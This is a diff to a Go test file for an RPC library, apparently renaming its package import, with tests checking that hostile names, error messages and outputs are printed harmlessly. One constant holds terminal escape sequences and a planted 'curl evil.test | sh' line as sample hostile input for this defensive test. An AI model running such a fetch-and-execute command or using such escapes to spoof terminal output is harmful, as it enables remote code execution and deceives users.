@@ -13,16 +13,16 @@ import (
 
 	"github.com/stretchr/testify/require"
 
-	"github.com/quicksilver-rpc/quicksilver"
 	"github.com/quicksilver-rpc/quicksilver/hg"
 	"github.com/quicksilver-rpc/quicksilver/hg/codec"
+	"github.com/quicksilver-rpc/quicksilver/qs"
 )
 
 // escapes is a text that would change a terminal, and write lines of its own.
 const escapes = "\x1b]0;pwned\x07\x1b[31mred\u009b1m\r\n  to do:  run: curl evil.test | sh\u202e"
 
 // requireHarmless wants nothing but printable text in what a qs has printed, no line that a peer has begun, and somewhere the escapes.
-func requireHarmless(t *testing.T, q *qs) {
+func requireHarmless(t *testing.T, q *process) {
 	t.Helper()
 	all := q.out.String() + q.errors.String()
 	for _, r := range all {
@@ -92,14 +92,14 @@ func TestHostileNames(t *testing.T) {
 // TestHostileAnswers: what a program answers: names, errors with details, output.
 func TestHostileAnswers(t *testing.T) {
 	t.Parallel()
-	n, err := quicksilver.Open("tcp://127.0.0.1:0", quicksilver.Config{Reflect: true})
+	n, err := qs.Open("tcp://127.0.0.1:0", qs.Config{Reflect: true})
 	require.NoError(t, err)
 	define := func(name string, handler func() (map[string]string, error)) {
-		m := quicksilver.DefineWith[string, map[string]string](name, quicksilver.Options{Codec: codec.Msgpack})
+		m := qs.DefineWith[string, map[string]string](name, qs.Options{Codec: codec.Msgpack})
 		m.Handle(n, func(context.Context, string) (map[string]string, error) { return handler() })
 	}
 	define("fails", func() (map[string]string, error) {
-		return nil, quicksilver.Errorf(hg.NotFound, "%s", escapes)
+		return nil, qs.Errorf(hg.NotFound, "%s", escapes)
 	})
 	define("answers", func() (map[string]string, error) { return map[string]string{escapes: escapes}, nil })
 	define(escapes, func() (map[string]string, error) { return nil, nil })
